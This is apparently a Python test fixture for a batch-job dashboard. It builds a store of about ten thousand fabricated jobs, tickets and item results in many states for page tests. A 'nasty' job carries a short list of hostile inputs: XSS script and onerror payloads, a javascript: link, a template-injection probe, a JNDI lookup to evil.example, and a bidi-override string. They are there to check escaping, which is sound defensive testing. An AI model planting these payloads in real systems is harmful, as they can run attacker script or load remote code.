"""A store with ten thousand jobs in every state, made in seconds, for tests of the page."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

from attrs import evolve, field, frozen
from sqlalchemy import Connection, Table, insert

from batchhub._engine.targets import hash_target
from batchhub._store import JobRecord, Store, Summary, TicketRecord
from batchhub._store.codec import job_row, summary_row, ticket_row, to_text
from batchhub._store.tables import items, jobs, lanes, results, tickets
from batchhub.models import BatchState, Contact, Counts, Finding, ItemState

LANES: Final = {
    "north-shop": "acme:api.acme.example:1003",
    "south-shop": "acme:api.acme.example:1004",
    "warehouse": "globex:globex.example:eu-west",
    "marketplace": "initech:market.initech.example:88",
}
"""The accounts, and the lane of each: the last one is driven by nobody."""

LARGE_JOB: Final = "page-large"
"""The job with many tickets."""

NASTY_JOB: Final = "page-nasty"
"""A job whose every text is hostile, or merely odd."""

HELD_JOB: Final = "page-held"
"""A job that waits for a decision."""

NASTY: Final = (
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "</pre></td></tr></table><h1>shouting</h1>",
    '"\'><a href="javascript:alert(1)">click me</a> https://evil.example/?q=1&amp;r=2',
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
    "📦🚚 مرحبا بالعالم שלום \u202egnirts desrever\u202c",
    "W" * 180,
)
"""Texts that a vendor or a user may send: none of them may act, or break a page."""

_REASONS: Final = (
    (ItemState.FAILED, 404, "product {n} not found"),
    (ItemState.FAILED, 422, "price must be above zero"),
    (ItemState.FAILED, 409, "version conflict: item was changed at 2026-11-{n:02}"),
    (ItemState.FAILED, 500, "internal error"),
    (ItemState.NOT_EXECUTED, None, "not executed: the batch was stopped before it"),
    (ItemState.UNKNOWN, None, "the vendor has no result for it any more"),
    (ItemState.FAILED, 400, NASTY[0]),
    (ItemState.FAILED, None, None),
)
_LABELS: Final = (
    None,
    "nightly prices",
    "stock from the tills, every quarter of an hour",
    "Winter sale: new descriptions for the whole catalogue, second attempt after the review",
    "images 2026-11",
)
_STALLED: Final = Finding(code="stalled", message="the vendor makes no progress")
_OVERDUE: Final = Finding(code="overdue", message="the job has not ended by its deadline")
_WARNED: Final = Finding(
    code="unknown_word",
    message="words for a state that nobody documented; they end nothing",
    count=3,
    examples=("ALMOST_DONE", NASTY[0]),
)


@frozen(kw_only=True)
class Fill:
    """
    How a store is filled.

    Attributes:
        jobs: How many jobs there are.
        items: How many items they have.
        now: The time of it all.
        tickets_of_large: How many tickets the large job has.
        open_share: Which share of the jobs is open.
    """

    jobs: int = 10_000
    items: int = 100_000
    now: datetime = field(factory=lambda: datetime.now(UTC))
    tickets_of_large: int = 3_000
    open_share: float = 0.02


def fill_page_store(path: Path, **changes: Any) -> Fill:
    """
    Make a store with jobs in every state.

    Not to be called in a running event loop; see `fill_store` for that.

    Args:
        path: Where.
        changes: Fields of `Fill`.
    """
    fill = Fill(**changes)
    asyncio.run(fill_store(path, fill))
    return fill


async def fill_store(path: Path, fill: Fill) -> None:
    """Make a store with jobs in every state."""
    await write_store(path, _make_jobs(fill, random.Random(17)), fill.now)


async def write_store(path: Path, made: Iterable[Made], now: datetime) -> None:
    """Make a store with jobs that were made up; the lanes are those of `LANES`."""
    store = await Store.open(path)
    try:
        await store._db.write(lambda connection: _write(connection, made, now), bulk=True)
    finally:
        await store.aclose()


def _write(connection: Connection, jobs_made: Iterable[Made], now: datetime) -> None:
    rows: dict[str, list[dict[str, Any]]] = {
        table.name: [] for table in (jobs, tickets, items, results)
    }
    places = dict.fromkeys(LANES.values(), 0)
    for made in jobs_made:
        places[made.job.lane] += 1
        job = evolve(made.job, place=places[made.job.lane])
        rows["jobs"].append(job_row(job) | summary_row(Summary.of(job, made.tickets)))
        for ticket in made.tickets:
            first, last = ticket.first_item, ticket.first_item + ticket.total
            hashes = b"".join(hash_target(_target(ticket, n)) for n in range(first, last))
            rows["tickets"].append(ticket_row(ticket) | {"targets": hashes})
            _add_items(rows, made, ticket)
    for lane, place in places.items():
        connection.execute(insert(lanes), _lane_row(lane, place, now))
    for table in (jobs, tickets, items, results):
        _insert(connection, table, rows[table.name])


def _target(ticket: TicketRecord, position: int) -> str:
    """Return what an item changes: now and then what an older job has changed."""
    return f"sku={(ticket.job_no * 37 + position) % 60_000}"


def _insert(connection: Connection, table: Table, rows: Sequence[dict[str, Any]]) -> None:
    for at in range(0, len(rows), 5_000):
        connection.execute(insert(table), rows[at : at + 5_000])


def _lane_row(lane: str, place: int, now: datetime) -> dict[str, Any]:
    row: dict[str, Any] = {"lane": lane, "last_place": place, "epoch": 3}
    if lane == LANES["marketplace"]:
        return row | {"seen_at": to_text(now - timedelta(hours=5))}
    second = int(now.timestamp())
    sent = {
        "at": now.isoformat(),
        "boot": ["", 0.0],
        "sent": {"": {str(second - n): 3 for n in range(12)}},
        "refusals": {},
        "budgets": {"": [100, 60.0, 5]},
    }
    cooled = {"": (now + timedelta(minutes=4)).isoformat()} if "globex" in lane else {}
    owner = {"owner": "feedfacefeedface", "owner_pid": 4242, "owner_host": "worker-1.example"}
    return row | owner | {"seen_at": to_text(now), "sent": sent, "cooled": cooled}


@frozen(kw_only=True)
class Made:
    """
    A job.

    Attributes:
        job: The job.
        tickets: Its tickets.
        reasons: Why items of it did not succeed, in turn: state, code, message.
        salt: With which of them it begins.
        is_nasty: Whether its texts are hostile.
    """

    job: JobRecord
    tickets: Sequence[TicketRecord]
    reasons: Sequence[tuple[ItemState, int | None, str | None]] = _REASONS
    salt: int = 0
    is_nasty: bool = False


def _make_jobs(fill: Fill, rng: random.Random) -> Iterator[Made]:
    names = list(LANES)
    specials = 3
    plain = fill.jobs - specials
    left = fill.items - fill.tickets_of_large - 2 * 8
    each, more = divmod(max(left, plain), plain)
    open_from = plain - int(fill.jobs * fill.open_share)
    for n in range(plain):
        account = names[n % len(names)]
        created = fill.now - timedelta(minutes=4 * (fill.jobs - n))
        total = each + (n < more)
        kind = (
            _OPEN_KINDS[n // len(names) % len(_OPEN_KINDS)]
            if n >= open_from
            else _ended_kind(n // len(LANES))
        )
        if n >= open_from:
            created = fill.now - timedelta(seconds=20 * (fill.jobs - n))
        yield _make(n + 1, f"page-{n + 1:05}", account, created, total, kind, n, rng)
    created = fill.now - timedelta(hours=3)
    yield _make_large(plain + 1, created, fill)
    yield _make(plain + 2, HELD_JOB, names[0], created, 8, "held", 1, rng)
    yield _make_nasty(plain + 3, created, rng)


_OPEN_KINDS: Final = (
    "pending",
    "queued",
    "running",
    "running",
    "held",
    "stalled",
    "unreachable",
    "overdue",
    "paused",
    "stale",
)


def _ended_kind(n: int) -> str:
    return {3: "partial", 7: "failed", 11: "cancelled", 13: "unknown", 17: "lost"}.get(
        n % 20, "succeeded"
    )


_STATE_OF: Final = {
    "pending": BatchState.PENDING,
    "queued": BatchState.QUEUED,
    "held": BatchState.UNCONFIRMED,
    "failed": BatchState.FAILED,
    "cancelled": BatchState.CANCELLED,
    "lost": BatchState.LOST,
    "succeeded": BatchState.COMPLETED,
    "partial": BatchState.COMPLETED,
    "unknown": BatchState.COMPLETED,
}


def _make(
    number: int,
    job_id: str,
    account: str,
    created: datetime,
    total: int,
    kind: str,
    salt: int,
    rng: random.Random,
) -> Made:
    state = _STATE_OF.get(kind, BatchState.IN_PROGRESS)
    took = timedelta(seconds=30 + rng.random() * 600)
    ended = created + took if state.is_terminal else None
    job = make_record(number, job_id, account, created, kind, salt, ended)
    ticket = make_ticket(number, 1, 1, total, state, created, ended)
    ticket = ticket.with_counts(_counts(kind, total))
    if state is BatchState.UNCONFIRMED:
        ticket = evolve(ticket, message="no answer within 120 s", vendor_refs=(), accepted_at=None)
    if kind == "failed":
        ticket = evolve(ticket, message="400: the file has no header", vendor_refs=())
    if kind == "stalled":
        ticket = evolve(ticket, findings=(_STALLED,))
    if kind in {"running", "stalled", "overdue"}:
        ticket = evolve(ticket, progress=(salt % 9 + 1) / 10, vendor_state="PROCESSING")
    return Made(job=job, tickets=[ticket], salt=salt)


def make_record(
    number: int,
    job_id: str,
    account: str,
    created: datetime,
    kind: str,
    salt: int,
    ended: datetime | None,
) -> JobRecord:
    """Make the record of a job of a kind such as ``running`` or ``paused``."""
    contact, note = {
        "paused": (Contact.PAUSED, "401: the vendor refused the credentials"),
        "unreachable": (Contact.UNREACHABLE, "connection refused by api.example:443"),
        "stale": (Contact.STALE, "503: maintenance"),
    }.get(kind, (Contact.OK, None))
    updated = ended or created + timedelta(seconds=15)
    return JobRecord(
        job_no=number,
        job_id=job_id,
        account=account,
        lane=LANES[account],
        adapter=LANES[account].partition(":")[0],
        operation=("prices", "stock", "products")[salt % 3],
        key=f"import-{number}" if salt % 4 == 0 else None,
        fingerprint="f" * 64,
        label=_LABELS[salt % len(_LABELS)],
        options={},
        stop_on_first_failure=False,
        deadline_s=60.0 if kind == "overdue" else 86_400.0,
        retry_of=None,
        contact=contact,
        contact_note=note,
        findings=(_OVERDUE,) if kind == "overdue" else (),
        created_at=created,
        updated_at=updated,
        observed_at=None if kind in {"pending", "held"} else updated,
        cancelled_at=updated if kind == "cancelled" else None,
        ended_at=ended,
    )


def make_ticket(
    job_no: int,
    position: int,
    first_item: int,
    total: int,
    state: BatchState,
    created: datetime,
    ended: datetime | None,
) -> TicketRecord:
    """Make a ticket that was sent a second after it was made, if it was sent at all."""
    is_sent = state is not BatchState.PENDING
    return TicketRecord(
        job_no=job_no,
        position=position,
        first_item=first_item,
        total=total,
        state=state,
        attempt_id=f"00000000-0000-4000-8000-{job_no:06}{position:06}" if is_sent else None,
        attempted_at=created + timedelta(seconds=1) if is_sent else None,
        sends=int(is_sent),
        accepted_at=created + timedelta(seconds=2) if is_sent else None,
        vendor_refs=(f"V{job_no}-{position}",) if is_sent else (),
        finished_as=state if ended is not None else None,
        finished_at=ended,
    )


def _counts(kind: str, total: int) -> Counts:
    bad = max(1, total // 3)
    parts = {
        "succeeded": {"succeeded": total},
        "partial": {"succeeded": total - bad, "failed": bad},
        "unknown": {"succeeded": total - bad, "unknown": bad},
        "failed": {"failed": total},
        "cancelled": {"not_executed": total},
        "lost": {"unknown": total},
    }.get(kind, {"pending": total})
    return Counts(**parts)


def _make_large(number: int, created: datetime, fill: Fill) -> Made:
    job = evolve(
        make_record(number, LARGE_JOB, "warehouse", created, "running", 2, None),
        label="the whole catalogue, an item a request",
        key="catalogue-2026-11",
    )
    made: list[TicketRecord] = []
    for n in range(1, fill.tickets_of_large + 1):
        share = n / fill.tickets_of_large
        sent = created + timedelta(seconds=3 * n)
        if share <= 0.6:
            state, ended = BatchState.COMPLETED, sent + timedelta(seconds=40 + n % 50)
            if n % 97 == 0:
                state = BatchState.FAILED
        elif share <= 0.63:
            state, ended = BatchState.IN_PROGRESS, None
        else:
            state, ended = BatchState.PENDING, None
        ticket = make_ticket(number, n, n, 1, state, sent, ended)
        if state is BatchState.COMPLETED:
            ticket = ticket.with_counts(Counts(failed=1) if n % 41 == 0 else Counts(succeeded=1))
        if state is BatchState.FAILED:
            ticket = evolve(ticket, failed=1, message=f"429: too many requests, try {n} later")
        made.append(ticket)
    return Made(job=job, tickets=made)


def _make_nasty(number: int, created: datetime, rng: random.Random) -> Made:
    plain = _make(number, NASTY_JOB, "south-shop", created, 8, "partial", 0, rng)
    job = evolve(
        plain.job,
        label=NASTY[2],
        key=NASTY[0],
        operation="products",
        contact_note=NASTY[1],
        findings=(_WARNED, Finding(code="odd", message=NASTY[0], examples=NASTY[:4])),
    )
    ticket = evolve(
        plain.tickets[0],
        message=NASTY[0],
        vendor_state=NASTY[1],
        vendor_refs=NASTY[:3],
        vendor={"note": NASTY[0]},
        succeeded=2,
        failed=6,
    )
    return Made(job=job, tickets=[ticket], is_nasty=True)


def _add_items(rows: dict[str, list[dict[str, Any]]], made: Made, ticket: TicketRecord) -> None:
    states = [
        state
        for state in (
            ItemState.SUCCEEDED,
            ItemState.FAILED,
            ItemState.NOT_EXECUTED,
            ItemState.UNKNOWN,
        )
        for _ in range(getattr(ticket, state.value))
    ]
    for n in range(ticket.total):
        position = ticket.first_item + n
        nasty = NASTY[position % len(NASTY)]
        item_id = f"sku-{position % 2000}" if position % 3 else str(position)
        rows["items"].append(
            {
                "job_no": ticket.job_no,
                "position": position,
                "item_id": f"{nasty} {position}" if made.is_nasty else item_id,
                "wire": b'{"sku": "%d", "price": 9.99}' % position,
            }
        )
        if n >= len(states):
            continue
        state, code, message = states[n], 200 if states[n] is ItemState.SUCCEEDED else None, None
        if state is not ItemState.SUCCEEDED:
            code, message = _find_reason(made, state, n, position)
        rows["results"].append(
            {
                "job_no": ticket.job_no,
                "position": position,
                "state": state.value,
                "code": code,
                "message": nasty if made.is_nasty and message else message,
                "vendor_ref": nasty if made.is_nasty else None,
                "raw": nasty.encode() if made.is_nasty else b'{"ok": true}',
                "packed": False,
            }
        )


def _find_reason(
    made: Made, state: ItemState, n: int, position: int
) -> tuple[int | None, str | None]:
    fitting = [(code, text) for known, code, text in made.reasons if known is state]
    code, text = fitting[(made.salt + n) % len(fitting)]
    return code, None if text is None else text.replace(
        "{n:02}", f"{position % 28 + 1:02}"
    ).replace("{n}", str(position))
